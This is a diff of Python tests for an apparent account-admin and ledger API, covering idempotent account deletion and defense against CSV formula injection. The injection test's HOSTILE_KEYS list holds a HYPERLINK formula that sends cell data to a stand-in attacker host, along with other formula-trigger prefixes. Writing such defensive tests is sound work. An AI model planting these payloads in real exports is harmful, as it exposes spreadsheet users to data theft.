@@ -167,3 +167,58 @@ def test_soft_delete_refuses_takes_and_is_audited(client, keys):
     assert [(a["action"], a["actor"], a["new"]) for a in audit] == [
         ("account_deleted", "test-admin", {"deleted": True})
     ]
+
+
+def test_deleting_a_deleted_account_again_is_200_and_writes_no_audit_row(client, keys):
+    _account(client, keys)
+    first = client.delete("/v1/admin/accounts/acc_f", headers=keys["admin"])
+    again = client.delete("/v1/admin/accounts/acc_f", headers=keys["admin"])
+    assert (
+        (again.status_code, again.json)
+        == (first.status_code, first.json)
+        == (
+            200,
+            {"id": "acc_f", "deleted": True},
+        )
+    )
+    audit = client.get("/v1/audit", query_string={"account_id": "acc_f"}, headers=keys["finance"]).json
+    assert [(a["action"], a["old"], a["new"]) for a in audit["items"]] == [
+        ("account_deleted", {"deleted": False}, {"deleted": True})
+    ]
+
+
+HOSTILE_KEYS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",  # full-width equals sign, which some spreadsheets also read as a formula
+    "'=already quoted",  # quoted too, so that one leading quote is always ours to strip
+    "plain-key",
+    'quote " inside',
+]
+HOSTILE_ACCOUNTS = ["@acc", "-acc", "-1.5", "@SUM.1"]
+
+
+def _sheet_cells(text):
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_export_neutralizes_cells_a_spreadsheet_would_read_as_formulas(client, keys):
+    for account in HOSTILE_ACCOUNTS:
+        _account(client, keys, account)
+    for i, key in enumerate(HOSTILE_KEYS):
+        _take(client, keys, HOSTILE_ACCOUNTS[i % len(HOSTILE_ACCOUNTS)], idempotency_key=key)
+    r = client.get("/v1/ledger.csv", query_string={"period": PERIOD}, headers=keys["finance"])
+    rows = _sheet_cells(r.get_data(as_text=True))
+    assert [x["idempotency_key"] for x in rows] == [
+        "'" + k if k[0] in "=+-@\t\r\uff1d'" else k for k in HOSTILE_KEYS
+    ]
+    assert {x["account_id"] for x in rows} == {"'" + a for a in HOSTILE_ACCOUNTS}
+    for x in rows:
+        for cell in x.values():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+    assert rows[-1]["idempotency_key"] == 'quote " inside'  # the csv module quotes and doubles it
+    assert 'quote "" inside' in r.get_data(as_text=True)
